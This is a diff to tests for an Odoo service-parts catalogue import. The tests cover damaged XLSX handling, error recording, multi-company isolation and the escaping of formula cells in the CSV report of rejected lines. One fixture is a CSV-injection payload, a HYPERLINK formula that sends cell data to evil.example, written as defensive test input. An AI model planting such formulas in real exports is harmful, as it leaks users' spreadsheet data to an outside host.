@@ -1,13 +1,14 @@
 import base64
 import csv
 import io
+from unittest.mock import patch
 
 from odoo.exceptions import UserError
 from odoo.tests import Form, tagged
 
 from odoo.addons.queue_job.job import Job
 
-from .common import ServicePartsCase
+from .common import ServicePartsCase, broken_workbooks
 
 HEADER = ("Article", "Description", "OEM", "Price", "Currency", "MOQ", "Lead time")
 
@@ -227,3 +228,113 @@ class TestImport(ServicePartsCase):
         bad_xlsx = self._import(file=base64.b64encode(b"not a zip"), file_name="x.xlsx")
         with self.assertRaisesRegex(UserError, "not a readable XLSX"), self.cr.savepoint():
             bad_xlsx._run_import()
+
+    def test_damaged_workbooks_refused_in_words(self):
+        """A damaged XLSX is a UserError on upload (the form's onchange), on
+        start, and a failed import with the reason in the job: never
+        openpyxl's AttributeError, zipfile's BadZipFile or the XML ParseError."""
+        parts = self.env["product.product"].search_count([])
+        for what, (data, header_readable) in broken_workbooks(list(HEADER)).items():
+            with self.subTest(what=what):
+                imp = self._import(file=base64.b64encode(data), file_name="catalog.xlsx")
+                upload = self.env["service.part.import"].new(
+                    {"partner_id": self.supplier_rub.id, "file": imp.file, "file_name": "c.xlsx"}
+                )
+                warning = upload._onchange_file()
+                if header_readable:
+                    self.assertFalse(warning)
+                    imp.with_user(self.service_manager).action_start()
+                    self.assertEqual(imp.state, "queued")
+                    self.assertEqual(imp._run_import_job(), "failed")
+                    self.assertIn("damaged after line", imp.error)
+                else:
+                    self.assertRegex(warning["warning"]["message"], "XLSX|worksheet")
+                    with self.assertRaisesRegex(UserError, "XLSX|worksheet"), self.cr.savepoint():
+                        imp.with_user(self.service_manager).action_start()
+                    self.assertEqual(imp._run_import_job(), "failed")
+                    self.assertRegex(imp.error, "XLSX|worksheet")
+        self.assertEqual(self.env["product.product"].search_count([]), parts)
+
+    def test_unexpected_error_recorded_on_the_import(self):
+        """Whatever else stops the job, the import says so in a sentence
+        and nothing of it stays; the traceback goes to the log only."""
+        imp = self._import()
+        with (
+            patch.object(type(imp), "_apply_staged", side_effect=AttributeError("boom")),
+            self.assertLogs("odoo.addons.service_parts.models.service_part_import", "ERROR"),
+        ):
+            self.assertEqual(imp._run_import_job(), "failed")
+        self.assertIn("unexpected error (AttributeError: boom)", imp.error)
+        self.assertFalse(self.env["product.product"].search([("name", "=", "New nozzle")]))
+
+    def test_rejected_lines_report_has_no_formulas(self):
+        """Cells of the rejected-lines CSV that a spreadsheet would run as a
+        formula start with an apostrophe; accepted names are stored as given."""
+        rows = [
+            ['=HYPERLINK("http://evil.example/?"&A1,"open")', "Link", "", "x", "RUB", "", ""],
+            ["F-2", "+1+1", "", "-5", "RUB", "", ""],
+            ["F-3", "@SUM(1+1)", "", "7", "@SUM(1+1)", "", ""],
+            ["F-4", "\t=1+1", "", "\r=1+1", "RUB", "", ""],
+            ["F-5", "@SUM(1+1)", "", "7", "RUB", "", ""],
+        ]
+        imp = self._import(rows)
+        imp._run_import()
+        self.assertEqual((imp.rejected_count, imp.part_created_count), (4, 1))
+        report = base64.b64decode(imp.report_file).decode()
+        cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
+        self.assertIn('\'=HYPERLINK("http://evil.example/?"&A1,"open")', cells)
+        for cell in ("'+1+1", "'-5", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1"):
+            self.assertIn(cell, cells)
+        self.assertFalse([cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")])
+        # Stored as the supplier wrote it: neutralised where the suite writes CSV.
+        self.assertTrue(self.env["product.product"].search([("name", "=", "@SUM(1+1)")]))
+
+    def test_other_company_import_stays_in_its_company(self):
+        """Another company's import creates its parts, numbers and prices in
+        that company: a service user of this company does not see its
+        supplier's codes, on new parts nor on the parts both share."""
+        other = self.env["res.company"].create({"name": "Parts Import Co 2"})
+        shared = self._part("Shared valve", "SH-1")
+        self._crossref(shared, "OEM-SHARED-9")
+        rows = [
+            ["BX-771", "Other company's nozzle", "BY-772", "10", "RUB", "", ""],
+            ["BZ-773", "Shared valve (their name)", "OEM-SHARED-9", "20", "RUB", "", ""],
+        ]
+        imp = self._import(rows, company_id=other.id)
+        imp._run_import()
+        self.assertEqual((imp.part_created_count, imp.part_matched_count), (1, 1))
+        new = self.env["product.product"].search([("name", "=", "Other company's nozzle")])
+        self.assertEqual(new.product_tmpl_id.company_id, other)
+        crossrefs = self.env["service.part.crossref"].search(
+            [("normalized_code", "in", ("BX771", "BY772", "BZ773"))]
+        )
+        self.assertEqual(len(crossrefs), 3)
+        self.assertEqual(crossrefs.company_id, other)
+        self.assertEqual(self._sellers().company_id, other)
+        # The shared part's own number stays the one every company sees, once.
+        self.assertEqual(
+            self.env["service.part.crossref"].search_count(
+                [("normalized_code", "=", "OEMSHARED9")]
+            ),
+            1,
+        )
+        # Importing again changes nothing.
+        again = self._import(rows, company_id=other.id)
+        again._run_import()
+        self.assertEqual((again.part_created_count, again.crossref_created_count), (0, 0))
+
+        user = self.service_user.with_context(allowed_company_ids=[self.company.id])
+        Product = self.env["product.product"].with_user(user)
+        for code in ("BX-771", "BY-772", "BZ-773"):
+            with self.subTest(code=code):
+                self.assertEqual(Product.service_parts_lookup(code), [])
+                self.assertFalse(Product.name_search(code))
+                self.assertFalse(
+                    self.env["service.part.crossref"].with_user(user).search([("code", "=", code)])
+                )
+        # The shared part is still found by its shared number, without the
+        # other company's supplier or its price.
+        (hit,) = Product.service_parts_lookup("OEM-SHARED-9")
+        self.assertEqual(hit["product_id"], shared.id)
+        self.assertEqual((hit["match"]["code"], hit["match"]["partner"]), ("OEM-SHARED-9", ""))
+        self.assertFalse(hit["offer"])
